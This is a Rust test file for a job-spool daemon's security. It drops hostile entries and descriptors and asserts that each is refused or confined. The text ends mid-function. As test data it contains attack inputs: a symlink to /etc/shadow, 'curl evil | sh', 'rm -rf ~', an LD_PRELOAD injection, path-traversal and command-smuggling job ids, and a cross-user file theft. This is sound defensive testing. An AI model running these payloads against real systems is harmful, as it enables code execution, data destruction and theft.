//! Issue 3, proof: hostile spool entries and descriptors dropped into the
//! real spool by unprivileged users. Each one must be refused with a reason
//! its owner can read through `ptrain rejected` (or run confined as its
//! owner where that is the right answer), the daemon must stay up, other
//! users' jobs must run as if nothing happened, and nothing may stay behind
//! in the spool.
//!
//! Each test boots one harness and drops many inputs into it; the reasons
//! are checked afterwards in one pass, so a test waits for the slowest input
//! only once.

use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::daemon::{chown, text, Opts, TestDaemon, ALICE, BOB, WAIT};
use crate::harness::{ensure_user, wait_for};

/// A uid with no passwd entry on any test machine.
const NO_SUCH_UID: u32 = 3_999_999;

/// What a dropped input must lead to: rejected for a reason containing one
/// of `needles`, visible to `owner` (a user name, or "root": only root).
struct Expect {
    file: String,
    owner: &'static str,
    /// Any of these in the reason.
    needles: &'static [&'static str],
}

fn expect(file: &str, owner: &'static str, needles: &'static [&'static str]) -> Expect {
    Expect {
        file: file.to_owned(),
        owner,
        needles,
    }
}

/// Copies `bytes` into the spool as `user` would: written to a private file
/// in the user's workdir, then `cp` into the spool (create, write, close).
fn drop_bytes(d: &TestDaemon, user: &str, name: &str, bytes: &[u8]) {
    static SEQ: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = SEQ.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let src = d.workdir(user).join(format!(".src-{n}"));
    std::fs::write(&src, bytes).unwrap();
    chown(&src, user);
    let dst = d.spool.join(name);
    let out = d.as_user(user, "cp", &[src.to_str().unwrap(), dst.to_str().unwrap()]);
    assert!(out.status.success(), "cp {name:?} failed: {}", text(&out));
}

/// Runs a shell script inside the harness as `user` (or root) and asserts
/// it succeeded.
fn sh(d: &TestDaemon, user: &str, script: &str) {
    let out = if user == "root" {
        d.harness
            .command("/bin/sh")
            .args(["-c", script])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    } else {
        d.as_user(user, "/bin/sh", &["-c", script])
    };
    assert!(
        out.status.success(),
        "as {user}: {script}\nfailed: {}",
        text(&out)
    );
}

/// Waits until every expected file has a rejection on record, then checks
/// each reason and that its owner (and nobody else but root) sees it.
fn assert_rejections(d: &TestDaemon, expected: &[Expect]) {
    let all = wait_for("every hostile input to be rejected", WAIT * 2, || {
        let all = d.rejected("root");
        let missing: Vec<&str> = expected
            .iter()
            .filter(|e| !all.iter().any(|r| r["file"] == e.file.as_str()))
            .map(|e| e.file.as_str())
            .collect();
        if missing.is_empty() {
            Some(all)
        } else {
            None
        }
    });
    let mut seen_by: BTreeMap<&str, Vec<Value>> = BTreeMap::new();
    for user in [ALICE, BOB] {
        seen_by.insert(user, d.rejected(user));
    }
    let mut failures = Vec::new();
    for e in expected {
        let records: Vec<&Value> = all
            .iter()
            .filter(|r| r["file"] == e.file.as_str())
            .collect();
        for r in &records {
            let reason = r["reason"].as_str().unwrap_or("");
            if !e.needles.iter().any(|n| reason.contains(n)) {
                failures.push(format!(
                    "{:?}: reason {reason:?} has none of {:?}",
                    e.file, e.needles
                ));
            }
            // Messages are for people: one line, bounded.
            if reason.contains('\n') || reason.len() > 600 {
                failures.push(format!("{:?}: unreadable reason {reason:?}", e.file));
            }
        }
        if e.owner != "root" {
            let own = &seen_by[e.owner];
            if !own.iter().any(|r| r["file"] == e.file.as_str()) {
                failures.push(format!(
                    "{:?}: not visible to its owner {}",
                    e.file, e.owner
                ));
            }
            if records.iter().any(|r| r["owner"] != e.owner) {
                failures.push(format!(
                    "{:?}: owner is not {}: {records:?}",
                    e.file, e.owner
                ));
            }
        }
        for (user, list) in &seen_by {
            if *user != e.owner && list.iter().any(|r| r["file"] == e.file.as_str()) {
                failures.push(format!("{:?}: visible to {user}", e.file));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn spool_entries(d: &TestDaemon) -> Vec<String> {
    std::fs::read_dir(&d.spool)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect()
}

fn wait_spool_empty(d: &TestDaemon) {
    wait_for("the spool to be empty", WAIT, || {
        spool_entries(d).is_empty().then_some(())
    });
}

/// The ids of every job ptraind knows.
fn job_ids(d: &TestDaemon) -> BTreeSet<String> {
    let out = d.ptrain("root", &["list", "--json", "--all"]);
    assert!(out.status.success(), "{}", text(&out));
    serde_json::from_slice::<Vec<Value>>(&out.stdout)
        .unwrap()
        .iter()
        .map(|j| j["id"].as_str().unwrap().to_owned())
        .collect()
}

/// Bob's job that runs while alice attacks, and must finish as usual.
fn start_bystander(d: &TestDaemon) {
    let job = json!({
        "version": 1,
        "command": ["/bin/sh", "-c", "sleep 3; echo bystander ok > bystander.txt"],
        "workdir": d.workdir(BOB),
    });
    d.drop_job(BOB, "bob-long.json", &job.to_string());
    d.wait_running("bob-long");
}

fn check_bystander(d: &TestDaemon) {
    let done = d.wait_ended("bob-long");
    assert_eq!(done["status"], "succeeded", "{done}");
    assert_eq!(done["owner"], BOB);
    let out = std::fs::read_to_string(d.workdir(BOB).join("bystander.txt")).unwrap();
    assert_eq!(out, "bystander ok\n");
    // A job submitted after the attack runs too.
    let after = d.run_to_end(BOB, "bob-after", r#"{"version": 1, "command": ["true"]}"#);
    assert_eq!(after["status"], "succeeded");
}

#[test]
fn hostile_spool_entries_are_refused_without_opening_what_they_point_at() {
    let d = TestDaemon::start("hostile-entries");
    start_bystander(&d);
    let spool = d.spool.display().to_string();
    let alice_dir = d.workdir(ALICE);
    let alice_work = alice_dir.display().to_string();
    let mut expected = Vec::new();

    // A symlink to a file only root may read.
    sh(&d, ALICE, &format!("ln -s /etc/shadow {spool}/shadow.json"));
    expected.push(expect("shadow.json", ALICE, &["symbolic link"]));
    // A symlink to a directory, and a dangling one.
    sh(&d, ALICE, &format!("ln -s / {spool}/rootdir.json"));
    expected.push(expect("rootdir.json", ALICE, &["symbolic link"]));
    sh(
        &d,
        ALICE,
        &format!("ln -s /nonexistent {spool}/dangling.json"),
    );
    expected.push(expect("dangling.json", ALICE, &["symbolic link"]));

    // A hard link to a root-owned file. With fs.protected_hardlinks=1 the
    // kernel refuses it to alice; then root makes it, and the daemon must
    // still refuse a file with two links.
    let root_file = d.root.join("root-owned.json");
    std::fs::write(&root_file, r#"{"version": 1, "command": ["id"]}"#).unwrap();
    let link = format!("ln {} {spool}/hardroot.json", root_file.display());
    let by_alice = d.as_user(ALICE, "/bin/sh", &["-c", &link]);
    let hardroot_owner = if by_alice.status.success() {
        ALICE
    } else {
        let protected = std::fs::read_to_string("/proc/sys/fs/protected_hardlinks").unwrap();
        assert_eq!(protected.trim(), "1", "ln failed: {}", text(&by_alice));
        sh(&d, "root", &link);
        "root"
    };
    expected.push(expect("hardroot.json", hardroot_owner, &["hard links"]));
    // A hard link to alice's own file: the daemon would otherwise read a
    // file she can still change through the other name.
    sh(
        &d,
        ALICE,
        &format!(
            "printf '%s' '{{\"version\": 1, \"command\": [\"true\"]}}' > {alice_work}/own.json && ln {alice_work}/own.json {spool}/hardown.json"
        ),
    );
    expected.push(expect("hardown.json", ALICE, &["hard links"]));

    // A FIFO: opening it must not block the event loop.
    sh(&d, ALICE, &format!("mkfifo {spool}/fifo.json"));
    expected.push(expect("fifo.json", ALICE, &["FIFO"]));
    // A directory (made in place, and one moved in).
    sh(&d, ALICE, &format!("mkdir {spool}/dir.json"));
    expected.push(expect("dir.json", ALICE, &["directory"]));
    sh(
        &d,
        ALICE,
        &format!("mkdir {alice_work}/moved && mv {alice_work}/moved {spool}/moveddir.json"),
    );
    expected.push(expect("moveddir.json", ALICE, &["directory"]));
    // A device node (only root can make one; alice owns it and moves it in).
    let dev = alice_dir.join("dev.json");
    let out = std::process::Command::new("mknod")
        .args([dev.to_str().unwrap(), "c", "1", "3"])
        .output()
        .unwrap();
    assert!(out.status.success(), "mknod: {}", text(&out));
    chown(&dev, ALICE);
    sh(
        &d,
        ALICE,
        &format!("mv {alice_work}/dev.json {spool}/dev.json"),
    );
    expected.push(expect(
        "dev.json",
        ALICE,
        &["character device", "cannot be opened"],
    ));
    // A unix socket: open(2) fails with ENXIO.
    sh(
        &d,
        ALICE,
        &format!(
            "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"{spool}/sock.json\")'"
        ),
    );
    expected.push(expect("sock.json", ALICE, &["socket", "cannot be opened"]));

    // A 2 GB sparse file: refused from fstat, never read.
    sh(&d, ALICE, &format!("truncate -s 2G {spool}/sparse.json"));
    expected.push(expect("sparse.json", ALICE, &["over the limit"]));
    // An empty file.
    sh(&d, ALICE, &format!(": > {spool}/empty.json"));
    expected.push(expect("empty.json", ALICE, &["empty"]));
    // Names that are not job names.
    drop_bytes(
        &d,
        ALICE,
        "bad name.json",
        br#"{"version": 1, "command": ["true"]}"#,
    );
    expected.push(expect("bad name.json", ALICE, &["file name"]));
    drop_bytes(
        &d,
        ALICE,
        "new\nline.json",
        br#"{"version": 1, "command": ["true"]}"#,
    );
    expected.push(expect("new\nline.json", ALICE, &["file name"]));
    let long = format!("{}.json", "a".repeat(65));
    drop_bytes(&d, ALICE, &long, br#"{"version": 1, "command": ["true"]}"#);
    expected.push(expect(&long, ALICE, &["file name"]));
    // A name that is not UTF-8 ("résumé" in Latin-1): renamed to one that
    // shows its bytes, and refused with the reason.
    sh(
        &d,
        ALICE,
        &format!(
            r#"printf '{{"version": 1, "command": ["true"]}}' > "$(printf '{spool}/r\351sum\351.json')""#
        ),
    );
    expected.push(expect(r"r\xe9sum\xe9.json", ALICE, &["file name"]));

    // A root-owned job file while allow_root_jobs is false (the default).
    std::fs::write(
        d.spool.join("rootjob.json"),
        r#"{"version": 1, "command": ["id"]}"#,
    )
    .unwrap();
    expected.push(expect("rootjob.json", "root", &["allow_root_jobs"]));
    // A file whose owner has no passwd entry (made aside, then moved in so
    // the daemon never sees it owned by root).
    let ghost = d.root.join("ghost.json");
    std::fs::write(&ghost, r#"{"version": 1, "command": ["id"]}"#).unwrap();
    std::os::unix::fs::chown(&ghost, Some(NO_SUCH_UID), Some(NO_SUCH_UID)).unwrap();
    std::fs::rename(&ghost, d.spool.join("ghost.json")).unwrap();
    expected.push(expect("ghost.json", "root", &["no passwd entry"]));

    // A file that grows while it is read: a writer appends in many small
    // writes, each closing the file (so the daemon reads it mid-growth),
    // and never completes the JSON. The daemon reads at most limit+1 bytes
    // of any version of it, and none may run. Once a version is rejected
    // and unlinked, the next append creates a new file under the same name,
    // which a close-write event still queued for the old one may find empty.
    let grow = format!(
        "f={spool}/grow.json; printf '%s' '{{\"version\": 1, \"command\": [\"true\"], \"pad\": \"' > $f; \
         i=0; while [ $i -lt 400 ]; do printf '%0200d' 0 >> $f; i=$((i+1)); done"
    );
    let mut writer = d
        .harness
        .command("runuser")
        .args(["-u", ALICE, "--", "/bin/sh", "-c", &grow])
        .stdin(Stdio::null())
        .spawn()
        .unwrap();
    expected.push(expect(
        "grow.json",
        ALICE,
        &[
            "ends before",
            "not valid JSON",
            "over the limit",
            "grew past",
            "empty",
        ],
    ));

    assert!(
        writer.wait().unwrap().success(),
        "the growing writer failed"
    );
    assert_rejections(&d, &expected);
    wait_spool_empty(&d);
    d.assert_alive();
    check_bystander(&d);
    assert_eq!(
        job_ids(&d),
        BTreeSet::from(["bob-after".to_owned(), "bob-long".to_owned()]),
        "a hostile entry became a job"
    );
    // What the links pointed at is untouched.
    assert!(std::fs::metadata("/etc/shadow").is_ok());
    assert_eq!(std::fs::metadata(&root_file).unwrap().nlink(), 1);
    // The reason reached the journal with the file name and its owner as
    // fields (tracing-journald prefixes them with `F_` unless configured
    // not to; either is accepted).
    let logged = d.harness.journal(&["-u", "ptraind.service", "-o", "json"]);
    let field = |entry: &Value, name: &str| {
        entry
            .get(name)
            .or_else(|| entry.get(format!("F_{name}")))
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    let entry = logged
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .find(|e| field(e, "PTRAIN_FILE").as_deref() == Some("shadow.json"))
        .unwrap_or_else(|| panic!("no journal entry for shadow.json:\n{logged}"));
    assert_eq!(field(&entry, "OWNER").as_deref(), Some(ALICE), "{entry}");
    assert!(
        field(&entry, "MESSAGE").unwrap().contains("symbolic link"),
        "{entry}"
    );
    // The ghost's rejection carries its uid for root to act on.
    let ghost = d
        .rejected("root")
        .into_iter()
        .find(|r| r["file"] == "ghost.json")
        .unwrap();
    assert_eq!(ghost["uid"], NO_SUCH_UID, "{ghost}");
    // The quarantine is root's alone.
    for dir in [d.state.clone(), d.state.join("rejected")] {
        let meta = std::fs::metadata(&dir).unwrap();
        assert_eq!((meta.uid(), meta.mode() & 0o777), (0, 0o700), "{dir:?}");
    }
    assert_eq!(d.unit_property("ptraind.service", "NRestarts"), "0");
}

#[test]
fn hostile_descriptors_are_rejected_with_their_reason() {
    let d = TestDaemon::start("hostile-specs");
    start_bystander(&d);
    let mut expected = Vec::new();
    let mut add = |d: &TestDaemon, name: &str, bytes: Vec<u8>, needles: &'static [&'static str]| {
        drop_bytes(d, ALICE, name, &bytes);
        expected.push(expect(name, ALICE, needles));
    };
    let spec = |extra: Value| {
        let mut v = json!({"version": 1, "command": ["true"]});
        for (k, x) in extra.as_object().unwrap() {
            v[k] = x.clone();
        }
        v.to_string().into_bytes()
    };

    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    add(&d, "deep.json", deep.into_bytes(), &["nests"]);
    let deep_obj = format!(
        r#"{{"version": 1, "command": ["true"], "x": {}1{}}}"#,
        r#"{"a":"#.repeat(10_000),
        "}".repeat(10_000)
    );
    add(&d, "deepobj.json", deep_obj.into_bytes(), &["nests"]);
    add(
        &d,
        "dupkey.json",
        br#"{"version": 1, "command": ["true"], "command": ["id"]}"#.to_vec(),
        &["duplicate key"],
    );
    add(
        &d,
        "dupenv.json",
        br#"{"version": 1, "command": ["true"], "env": {"A": "1", "A": "2"}}"#.to_vec(),
        &["duplicate key"],
    );
    add(
        &d,
        "unknown.json",
        spec(json!({"gpu": 1})),
        &["unknown field"],
    );
    // A dependency on another user's job: alice's job must not learn from
    // (or wait on) bob's. Before dependencies existed this was an unknown
    // field; both refusals are accepted, running it is not.
    add(
        &d,
        "afterok.json",
        spec(json!({"after_ok": ["bob-long"]})),
        &["belongs to", "unknown field"],
    );
    add(
        &d,
        "afterany.json",
        spec(json!({"after_any": ["bob-long"]})),
        &["belongs to", "unknown field"],
    );
    add(
        &d,
        "badutf8.json",
        b"{\"version\": 1, \"command\": [\"tr\xff\xfeue\"]}".to_vec(),
        &["not valid UTF-8"],
    );
    add(
        &d,
        "nul.json",
        b"{\"version\": 1, \"command\": [\"true\0\"]}".to_vec(),
        &["NUL byte"],
    );
    add(
        &d,
        "nulescape.json",
        br#"{"version": 1, "command": ["/bin/sh", "-c", "id\u0000; rm -rf ~"]}"#.to_vec(),
        &["NUL character"],
    );
    add(
        &d,
        "truncated.json",
        br#"{"version": 1, "command": ["tr"#.to_vec(),
        &["ends before"],
    );
    add(
        &d,
        "garbage.json",
        b"#!/bin/sh\nid\n".to_vec(),
        &["not valid JSON"],
    );
    add(&d, "array.json", b"[]".to_vec(), &["JSON object"]);
    add(
        &d,
        "noversion.json",
        br#"{"command": ["true"]}"#.to_vec(),
        &["`version` is missing"],
    );
    add(
        &d,
        "version2.json",
        br#"{"version": 2, "command": ["true"]}"#.to_vec(),
        &["unsupported version"],
    );
    add(
        &d,
        "userroot.json",
        spec(json!({"user": "root"})),
        &["field `user` says \"root\""],
    );
    add(
        &d,
        "userbob.json",
        spec(json!({"user": BOB})),
        &["field `user` says"],
    );
    add(
        &d,
        "id-dotdot.json",
        spec(json!({"id": ".."})),
        &["invalid job id"],
    );
    add(
        &d,
        "id-traversal.json",
        spec(json!({"id": "../../etc/cron.d/x"})),
        &["invalid job id"],
    );
    add(
        &d,
        "id-slash.json",
        spec(json!({"id": "a/b"})),
        &["invalid job id"],
    );
    add(
        &d,
        "id-newline.json",
        spec(json!({"id": "a\nb"})),
        &["invalid job id"],
    );
    add(
        &d,
        "id-300.json",
        spec(json!({"id": "a".repeat(300)})),
        &["invalid job id"],
    );
    add(
        &d,
        "id-unit.json",
        spec(json!({"id": "x.service; rm"})),
        &["invalid job id"],
    );
    // Another user's running job's id.
    add(
        &d,
        "id-taken.json",
        spec(json!({"id": "bob-long"})),
        &["already exists"],
    );
    add(
        &d,
        "cmdstring.json",
        br#"{"version": 1, "command": "true; curl evil | sh"}"#.to_vec(),
        &["not a shell string"],
    );
    add(
        &d,
        "cmdnumber.json",
        br#"{"version": 1, "command": ["sleep", 5]}"#.to_vec(),
        &["field `command[1]`"],
    );
    add(
        &d,
        "cmdempty.json",
        spec(json!({"command": []})),
        &["`command` is empty"],
    );
    add(
        &d,
        "env-dash.json",
        spec(json!({"env": {"BAD-NAME": "x"}})),
        &["invalid variable name"],
    );
    add(
        &d,
        "env-eq.json",
        spec(json!({"env": {"A=B": "x"}})),
        &["invalid variable name"],
    );
    add(
        &d,
        "env-empty.json",
        spec(json!({"env": {"": "x"}})),
        &["invalid variable name"],
    );
    add(
        &d,
        "env-cuda.json",
        spec(json!({"env": {"CUDA_VISIBLE_DEVICES": "0,1"}})),
        &["must not set `CUDA_VISIBLE_DEVICES`"],
    );
    add(
        &d,
        "env-ptrain.json",
        spec(json!({"env": {"PTRAIN_JOB_ID": "bob-long"}})),
        &["must not set `PTRAIN_JOB_ID`"],
    );
    add(
        &d,
        "env-ptrain-gpus.json",
        spec(json!({"env": {"PTRAIN_GPUS": "0,1"}})),
        &["must not set `PTRAIN_GPUS`"],
    );
    add(
        &d,
        "env-preload.json",
        spec(json!({"env": {"LD_PRELOAD": "/tmp/evil.so"}})),
        &["must not set `LD_PRELOAD`"],
    );
    add(
        &d,
        "workdir-rel.json",
        spec(json!({"workdir": "../bob"})),
        &["absolute path"],
    );
    add(
        &d,
        "workdir-dotdot.json",
        spec(json!({"workdir": "/srv/../root"})),
        &["`..` components"],
    );
    add(
        &d,
        "gpus-many.json",
        spec(json!({"gpus": 1_000_000})),
        &["field `gpus`"],
    );
    add(
        &d,
        "timeout-neg.json",
        spec(json!({"timeout": -1})),
        &["field `timeout`"],
    );
    let too_big = spec(json!({"env": {"PAD": "x".repeat(70_000)}}));
    add(&d, "toobig.json", too_big, &["over the limit"]);

    assert_rejections(&d, &expected);
    wait_spool_empty(&d);
    d.assert_alive();
    check_bystander(&d);
    assert_eq!(
        job_ids(&d),
        BTreeSet::from(["bob-after".to_owned(), "bob-long".to_owned()]),
        "a hostile descriptor became a job"
    );
    // The rejected bytes are kept for root, exactly as dropped.
    let quarantined = std::fs::read_dir(d.state.join("rejected"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .find(|n| n.ends_with("-nul.json.data"))
        .expect("nul.json's bytes are quarantined");
    let bytes = std::fs::read(d.state.join("rejected").join(quarantined)).unwrap();
    assert_eq!(bytes, b"{\"version\": 1, \"command\": [\"true\0\"]}");
    assert_eq!(d.unit_property("ptraind.service", "NRestarts"), "0");
}

#[test]
fn jobs_run_confined_as_their_owner_and_cannot_enter_other_homes() {
    let d = TestDaemon::start("hostile-confined");
    let (alice_uid, alice_gid) = ensure_user(ALICE);
    let alice_work = d.workdir(ALICE);
    let bob_work = d.workdir(BOB);
    // Bob's private directory with a file alice must not read or change.
    std::fs::set_permissions(&bob_work, std::fs::Permissions::from_mode(0o700)).unwrap();
    let secret = bob_work.join("secret.txt");
    std::fs::write(&secret, "bob's secret\n").unwrap();
    chown(&secret, BOB);
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();

    // A job in bob's workdir: refused at the claim, where ptraind checks
    // as alice (not as root, who could enter) that she can enter it.
    // systemd's own chdir as alice (200/CHDIR) stays the last line.
    let intrude = json!({
        "version": 1,
        "command": ["/bin/sh", "-c", "cat secret.txt > stolen.txt; echo pwned > secret.txt"],
        "workdir": bob_work,
    });
    d.drop_job(ALICE, "intrude.json", &intrude.to_string());
    let refused = d.wait_rejected(ALICE, "intrude.json");
    assert!(
        refused["reason"]
            .as_str()
            .unwrap()
            .contains("may not enter it"),
        "{refused}"
    );
    assert!(d.status("intrude").is_none());
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "bob's secret\n");
    assert!(!bob_work.join("stolen.txt").exists());
    assert!(!alice_work.join("stolen.txt").exists());

    // The confinement baseline of a running job, from `systemctl show`, and
    // the identity of its process, from the kernel.
    let job = json!({
        "version": 1,
        "command": ["/bin/sh", "-c", "touch /tmp/private-mark; exec sleep 60"],
        "workdir": alice_work,
    });
    d.drop_job(ALICE, "confined.json", &job.to_string());
    d.wait_running("confined");
    let unit = "ptrain-job@confined.service";
    let work = alice_work.display().to_string();
    for (prop, want) in [
        ("NoNewPrivileges", "yes"),
        ("PrivateTmp", "yes"),
        ("ProtectSystem", "strict"),
        ("ProtectKernelTunables", "yes"),
        ("ProtectKernelModules", "yes"),
        ("ProtectKernelLogs", "yes"),
        ("ProtectControlGroups", "yes"),
        ("RestrictSUIDSGID", "yes"),
        ("LockPersonality", "yes"),
        ("DevicePolicy", "closed"),
        ("User", &alice_uid.to_string()),
        ("Group", &alice_gid.to_string()),
        ("WorkingDirectory", &work),
    ] {
        assert_eq!(d.unit_property(unit, prop), want, "{unit} {prop}");
    }
    let rw = d.unit_property(unit, "ReadWritePaths");
    assert!(
        rw.split_whitespace().any(|p| p == work),
        "ReadWritePaths={rw}"
    );
    // No GPU asked for: no device at all beyond systemd's defaults.
    let allow = d.unit_property(unit, "DeviceAllow");
    assert!(!allow.contains("nvidia"), "DeviceAllow={allow}");

    let pid = d.unit_property(unit, "MainPID");
    assert_ne!(pid, "0");
    let status = wait_for("the job's main process", WAIT, || {
        let out = d
            .harness
            .command("cat")
            .arg(format!("/proc/{pid}/status"))
            .output()
            .unwrap();
        let s = String::from_utf8_lossy(&out.stdout).into_owned();
        // Until exec, the process may still be systemd's fork.
        s.contains("Name:\tsleep").then_some(s)
    });
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(&format!("{name}:")))
            .unwrap_or_else(|| panic!("{name} missing in {status}"))
            .split_whitespace()
            .collect::<Vec<_>>()
    };
    let uid = alice_uid.to_string();
    let gid = alice_gid.to_string();
    assert_eq!(field("Uid"), [&uid, &uid, &uid, &uid], "{status}");
    assert_eq!(field("Gid"), [&gid, &gid, &gid, &gid], "{status}");
    assert_eq!(field("NoNewPrivs"), ["1"], "{status}");
    assert_eq!(field("CapEff"), ["0000000000000000"], "{status}");
    assert_eq!(field("CapPrm"), ["0000000000000000"], "{status}");
    // PrivateTmp: what the job wrote to /tmp is not the host's /tmp.
    wait_for("the job's /tmp mark", WAIT, || {
        let out = d
            .harness
            .command("nsenter")
            .args(["-t", &pid, "-m", "test", "-e", "/tmp/private-mark"])
            .output()
            .unwrap();
        out.status.success().then_some(())
    });
    assert!(!Path::new("/tmp/private-mark").exists());
    assert!(d.ptrain(ALICE, &["stop", "confined"]).status.success());
    assert_eq!(d.wait_ended("confined")["status"], "stopped");
    wait_spool_empty(&d);
    d.assert_alive();
}

#[test]
fn ten_thousand_files_from_one_user_are_each_run_once_or_refused() {
    const N: usize = 10_000;
    let d = TestDaemon::start_with(
        "hostile-flood",
        Opts {
            gpus: 1,
            // Every refusal stays countable: the quarantine's per-owner
            // cap has its own test.
            extra_config: "max_queued_per_user = 50\n[retention]\nrejected_per_user = 20000".into(),
            ..Opts::default()
        },
    );
    start_bystander(&d);
    let alice_work = d.workdir(ALICE).display().to_string();
    // Alice's own job holds the only GPU while the flood lands, so her
    // queue fills up to the limit and stays there: the files beyond it are
    // refused, whatever the speed of the machine. Released after.
    let holder = json!({
        "version": 1,
        "command": ["/bin/sh", "-c", "while [ ! -e release ]; do sleep 0.1; done"],
        "workdir": alice_work,
        "gpus": 1,
    });
    d.drop_job(ALICE, "holder.json", &holder.to_string());
    d.wait_running("holder");
    // Each job that runs appends its id to one log, so a job that ran twice
    // shows up twice. Shell builtins only: 10k files in well under a second.
    let job = json!({
        "version": 1,
        "command": ["/bin/sh", "-c", "echo $PTRAIN_JOB_ID >> ran.log"],
        "workdir": alice_work,
        "gpus": 1,
    })
    .to_string()
    .replace('\'', "");
    let script = format!(
        "cd {spool} && i=0; while [ $i -lt {N} ]; do printf '%s' '{job}' > f$i.json; i=$((i+1)); done",
        spool = d.spool.display()
    );
    sh(&d, ALICE, &script);

    // Listing 10k records is heavy: look at most once a second, and say
    // how far it got, so a timeout shows where it stuck.
    let mut last_look: Option<Instant> = None;
    let mut last_progress = String::new();
    let (jobs, rejected) = wait_for(
        "every flooded file to be run or rejected (progress above)",
        Duration::from_secs(240),
        || {
            if last_look.is_some_and(|t| t.elapsed() < Duration::from_secs(1)) {
                return None;
            }
            last_look = Some(Instant::now());
            let left = spool_entries(&d).len();
            let out = d.ptrain("root", &["list", "--json", "--all"]);
            let jobs: Vec<Value> = serde_json::from_slice(&out.stdout).ok()?;
            let jobs: Vec<Value> = jobs
                .into_iter()
                .filter(|j| j["id"].as_str().unwrap().starts_with('f'))
                .collect();
            let mut by_status: BTreeMap<String, usize> = BTreeMap::new();
            for j in &jobs {
                *by_status
                    .entry(j["status"].as_str().unwrap_or("?").to_owned())
                    .or_default() += 1;
            }
            let rejected = d.rejected(ALICE);
            let progress = format!(
                "{left} in the spool, {} rejected, jobs {by_status:?}, NRestarts={}",
                rejected.len(),
                d.unit_property("ptraind.service", "NRestarts")
            );
            if progress != last_progress {
                eprintln!("flood: {progress}");
                last_progress = progress;
            }
            let unsettled = ["queued", "launching", "running"]
                .iter()
                .any(|s| by_status.contains_key(*s));
            // Claimed or refused, every one; then the holder lets the
            // queued ones run and they must all finish.
            if left == 0 && jobs.len() + rejected.len() >= N {
                std::fs::write(d.workdir(ALICE).join("release"), "").unwrap();
            }
            (left == 0 && !unsettled && jobs.len() + rejected.len() >= N)
                .then_some((jobs, rejected))
        },
    );
    d.assert_alive();
    assert_eq!(
        d.unit_property("ptraind.service", "NRestarts"),
        "0",
        "ptraind restarted under the flood (watchdog?)"
    );
    let failed: Vec<String> = jobs
        .iter()
        .filter(|j| j["status"] != "succeeded")
        .map(|j| format!("{} {}: {}", j["id"], j["status"], j["detail"]))
        .collect();
    assert!(
        failed.is_empty(),
        "{} accepted jobs did not succeed, e.g.:\n{}",
        failed.len(),
        failed[..failed.len().min(5)].join("\n")
    );
    let mut fates: BTreeMap<String, Vec<&str>> = BTreeMap::new();
    for j in &jobs {
        fates
            .entry(j["id"].as_str().unwrap().to_owned())
            .or_default()
            .push("ran");
    }
    for r in &rejected {
        let reason = r["reason"].as_str().unwrap();
        assert!(reason.contains("max_queued_per_user"), "{r}");
        let file = r["file"].as_str().unwrap();
        fates
            .entry(file.strip_suffix(".json").unwrap().to_owned())
            .or_default()
            .push("rejected");
    }
    let want: BTreeSet<String> = (0..N).map(|i| format!("f{i}")).collect();
    let got: BTreeSet<String> = fates.keys().cloned().collect();
    assert_eq!(
        want.difference(&got).collect::<Vec<_>>(),
        Vec::<&String>::new(),
        "lost"
    );
    assert_eq!(got.len(), N, "unexpected ids");
    let twice: Vec<_> = fates.iter().filter(|(_, f)| f.len() != 1).collect();
    assert!(twice.is_empty(), "handled more than once: {twice:?}");
    assert!(
        !rejected.is_empty() && !jobs.is_empty(),
        "the limit was never reached ({} ran): the test proves nothing",
        jobs.len()
    );
    // Every job that ran, ran exactly once.
    let log = std::fs::read_to_string(d.workdir(ALICE).join("ran.log")).unwrap_or_default();
    let mut runs: BTreeMap<&str, usize> = BTreeMap::new();
    for line in log.lines() {
        *runs.entry(line).or_default() += 1;
    }
    assert_eq!(runs.len(), jobs.len(), "jobs that ran vs. records");
    assert!(runs.values().all(|n| *n == 1), "a job ran twice");
    eprintln!("flood: {} ran, {} rejected", jobs.len(), rejected.len());
    check_bystander(&d);
}

#[test]
fn a_flood_of_bad_files_pushes_out_only_its_owners_oldest_quarantine() {
    let d = TestDaemon::start_with(
        "quarantine-cap",
        Opts {
            extra_config: "[retention]\nrejected_per_user = 3\n".into(),
            ..Opts::default()
        },
    );
    d.drop_job(ALICE, "alice-bad.json", "{not json");
    d.wait_rejected(ALICE, "alice-bad.json");
    for i in 0..8 {
        d.drop_job(BOB, &format!("flood-{i}.json"), "{not json");
    }
    d.wait_rejected(BOB, "flood-7.json");
    let files = |user: &str| -> Vec<String> {
        d.rejected(user)
            .iter()
            .map(|r| r["file"].as_str().unwrap().to_owned())
            .collect()
    };
    wait_for("bob's quarantine to be cut to 3", WAIT, || {
        (files(BOB).len() == 3).then_some(())
    });
    assert_eq!(files(BOB), ["flood-5.json", "flood-6.json", "flood-7.json"]);
    assert_eq!(files(ALICE), ["alice-bad.json"]);
    // Nothing else stays behind: reason and bytes go together.
    let left = std::fs::read_dir(d.state.join("rejected")).unwrap().count();
    assert_eq!(
        left,
        2 * 4,
        "3 of bob's and 1 of alice's, each reason + bytes"
    );
    d.assert_alive();
}

// ---------------------------------------------------------------------
// Issue 16: no way up. Each test fails on a build whose job units carry
// the job's environment into a privileged ExecStopPost, trust any sender's
// signals, leave the home and /dev/shm writable, read the result file as
// root, or show the environment in the unit's properties.

/// A root-only directory: anything that appears in it was made by root.
fn root_only_dir(d: &TestDaemon, name: &str) -> std::path::PathBuf {
    let dir = d.root.join(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    dir
}

/// What systemd shows every user about a unit, and its transient file.
fn public_unit_text(d: &TestDaemon, unit: &str) -> String {
